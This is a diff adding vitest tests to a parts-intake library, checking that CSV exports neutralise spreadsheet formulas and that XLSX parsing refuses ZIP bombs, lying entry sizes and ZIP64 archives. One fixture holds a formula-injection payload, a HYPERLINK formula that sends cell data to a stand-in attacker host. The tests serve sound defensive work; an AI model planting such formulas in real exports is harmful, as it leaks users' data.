@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { IntakeError, parseCsv, parseFile, parsePdf, parseXlsx } from '../src/index';
-import { pdfOf, xlsxOf } from './fixtures';
+import { buildCsv, toExportRow } from '../../export/src/index';
+import { DEFAULT_XLSX_MAX_UNPACKED_BYTES, IntakeError, parseCsv, parseFile, parsePdf, parseXlsx } from '../src/index';
+import { paddedWorkbook, pdfOf, xlsxOf, zipOf } from './fixtures';
 
 async function intakeErrorOf(work: Promise<unknown> | (() => unknown)) {
   try {
@@ -44,6 +45,32 @@ describe('parseCsv', () => {
     ]);
   });
 
+  it('gives back the text of an exported CSV whose cells Nexa guarded against formulas', () => {
+    const parts = [
+      { partnumber: '=HYPERLINK("HTTP://EVIL.EXAMPLE/?Q="&A1;"CLIQUE")', description: '=1+1', manufacturer: '@ACME' },
+      { partnumber: '+5V-REG', description: '-10 °C a +85 °C', manufacturer: 'TI' },
+      { partnumber: '-LM317T', description: 'Regulador\tajustável', manufacturer: 'ST' },
+      { partnumber: 'BC547', description: 'Transistor NPN', manufacturer: 'onsemi' },
+    ];
+    const exported = parts.map((part, index) =>
+      toExportRow({ id: '22222222-2222-4222-8222-222222222222', seq: index + 1, ...part, supplier: null, quantity: null, status: 'queued', error: null, classification: null }),
+    );
+    const csv = buildCsv(exported);
+    expect(csv).toContain(`;"'=HYPERLINK(`);
+    const result = parseCsv(csv);
+    expect(result.rejected).toEqual([]);
+    expect(result.items).toEqual(parts);
+  });
+
+  it('removes the apostrophe only before a formula character', () => {
+    const csv = `pn;descrição\n'=A1+1;'@x\n'BC547;'tab\n"'\tABC-1";''=dois\n`;
+    expect(parseCsv(csv).items).toEqual([
+      { partnumber: '=A1+1', description: '@x' },
+      { partnumber: "'BC547", description: "'tab" },
+      { partnumber: 'ABC-1', description: "''=dois" },
+    ]);
+  });
+
   it('refuses an empty file and one without a partnumber column', async () => {
     expect((await intakeErrorOf(() => parseCsv('  \n'))).code).toBe('EMPTY_FILE');
     const noColumn = await intakeErrorOf(() => parseCsv('nome;valor\nx;1\n'));
@@ -73,6 +100,45 @@ describe('parseXlsx', () => {
   it('refuses bytes that are not a workbook', async () => {
     const error = await intakeErrorOf(parseXlsx(new TextEncoder().encode('PK not really a zip')));
     expect(error.code).toBe('UNREADABLE_FILE');
+  });
+});
+
+describe('parseXlsx against ZIP bombs', () => {
+  it('refuses a workbook that unpacks to more than the limit before ExcelJS unpacks it', async () => {
+    const bomb = await paddedWorkbook(DEFAULT_XLSX_MAX_UNPACKED_BYTES + 1024 * 1024);
+    expect(bomb.byteLength).toBeLessThan(200_000);
+    const error = await intakeErrorOf(parseFile(bomb, { filename: 'bomb.xlsx' }));
+    expect(error.code).toBe('FILE_TOO_LARGE');
+    expect(error.message).toMatch(new RegExp(`^the XLSX unpacks to \\d+ bytes; the limit is ${DEFAULT_XLSX_MAX_UNPACKED_BYTES}$`));
+  });
+
+  it('reads a workbook under the limit, and takes the limit as an option', async () => {
+    const padded = await paddedWorkbook(1024 * 1024);
+    expect((await parseXlsx(padded)).items).toEqual([{ partnumber: 'ABC-1' }]);
+    expect((await parseFile(padded, { filename: 'po.xlsx' })).items).toEqual([{ partnumber: 'ABC-1' }]);
+    const error = await intakeErrorOf(parseFile(padded, { filename: 'po.xlsx', maxXlsxUnpackedBytes: 512 * 1024 }));
+    expect(error.code).toBe('FILE_TOO_LARGE');
+    expect(error.message).toContain('the limit is 524288');
+  });
+
+  it('refuses an archive whose entries unpack to more than their declared size', async () => {
+    const lying = await paddedWorkbook(DEFAULT_XLSX_MAX_UNPACKED_BYTES + 1024 * 1024, () => 1000);
+    const error = await intakeErrorOf(parseXlsx(lying));
+    expect(error.code).toBe('UNREADABLE_FILE');
+    expect(error.message).toBe('the XLSX is not a valid ZIP archive: xl/worksheets/sheet1.xml unpacks to more than its declared 1000 bytes');
+    const tooSmall = await intakeErrorOf(parseXlsx(await paddedWorkbook(0, (size) => size + 1)));
+    expect(tooSmall.message).toMatch(/xl\/worksheets\/sheet1.xml unpacks to \d+ bytes, not the declared \d+$/);
+  });
+
+  it('refuses truncated, garbage and ZIP64 archives as unreadable, with a clear message', async () => {
+    const workbook = await xlsxOf([['Part Number'], ['ABC-1']]);
+    for (const bytes of [workbook.subarray(0, workbook.byteLength - 10), workbook.subarray(0, workbook.byteLength / 2), new Uint8Array([0x50, 0x4b, 3, 4, ...new Uint8Array(200).fill(7)])]) {
+      const error = await intakeErrorOf(parseFile(bytes, { filename: 'po.xlsx' }));
+      expect(error.code).toBe('UNREADABLE_FILE');
+      expect(error.message).toMatch(/^the XLSX is not a valid ZIP archive: /);
+    }
+    const zip64 = zipOf([{ name: 'xl/worksheets/sheet1.xml', data: new TextEncoder().encode('<worksheet/>'), declaredSize: 0xffffffff }]);
+    expect((await intakeErrorOf(parseXlsx(zip64))).message).toBe('the XLSX is not a valid ZIP archive: xl/worksheets/sheet1.xml is a ZIP64 entry, which is not accepted');
   });
 });
 
